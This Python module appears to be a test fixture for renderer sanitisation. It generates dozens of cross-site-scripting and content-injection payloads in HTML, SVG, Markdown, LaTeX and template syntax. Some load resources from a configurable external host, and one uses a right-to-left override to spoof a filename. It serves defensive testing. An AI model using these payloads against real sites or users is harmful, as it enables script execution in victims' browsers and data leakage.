"""Texts that want to be more than text: HTML, Markdown and the like, each with its own way to run
or to load something. ELSEWHERE is where they want to be heard of; `window.ran` tells what ran."""

RUN = "window.ran=(window.ran||0)+1"


def payloads(elsewhere: str) -> list[str]:
    """Each a line of text. What they load is looked for at `elsewhere`."""
    return [
        f"<script>{RUN}</script>",
        f"<script src={elsewhere}/s.js></script>",
        f'<img src=x onerror="{RUN}">',
        f"<img src={elsewhere}/i.png>",
        f"<img/src='x'/onerror={RUN}>",
        f'<IMG SRC="x" oNeRrOr="{RUN}">',
        f"<svg onload={RUN}></svg>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><image href={elsewhere}/v.png /></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<iframe src={elsewhere}/f></iframe>",
        f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f"<object data={elsewhere}/o></object>",
        f"<embed src={elsewhere}/e>",
        f"<video src={elsewhere}/v onloadstart={RUN}></video>",
        f"<audio autoplay onerror={RUN}><source src=x></audio>",
        f"<link rel=stylesheet href={elsewhere}/c.css>",
        f"<style>@import '{elsewhere}/d.css'; * {{ color: red !important }}</style>",
        f'<div style="background:url({elsewhere}/b.png)">styled</div>',
        f"<base href={elsewhere}/>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/m'>",
        f'<a href="javascript:{RUN}">link</a>',
        f"<a href={elsewhere}/a ping={elsewhere}/p>link</a>",
        f"<form action={elsewhere}/g><button>send</button></form>",
        f"<input autofocus onfocus={RUN}>",
        f"<details open ontoggle={RUN}>more</details>",
        f"<body onload={RUN}>",
        f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
        f"<template><img src=x onerror={RUN}></template>",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        f"</span></div></p><img src=x onerror={RUN}>",
        f'"><img src=x onerror={RUN}>',
        f"' onmouseover='{RUN}' x='",
        f"&lt;img src=x onerror={RUN}&gt;",
        f"&#60;img src=x onerror={RUN}&#62;",
        f"![image]({elsewhere}/md.png)",
        f'[link](javascript:{RUN} "title")',
        f"[![image]({elsewhere}/md2.png)]({elsewhere}/l)",
        f"<{elsewhere}/autolink>",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$ and $\\includegraphics{{{elsewhere}/t.png}}$",
        f"```html\n<img src=x onerror={RUN}>\n```",
        f"<x-gradio onclick={RUN} tabindex=1 autofocus onfocus={RUN}>custom</x-gradio>",
        "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= window.ran=1 %>",
        "\u202etxt.exe\u2066 <b>bold</b> <!-- comment",
    ]
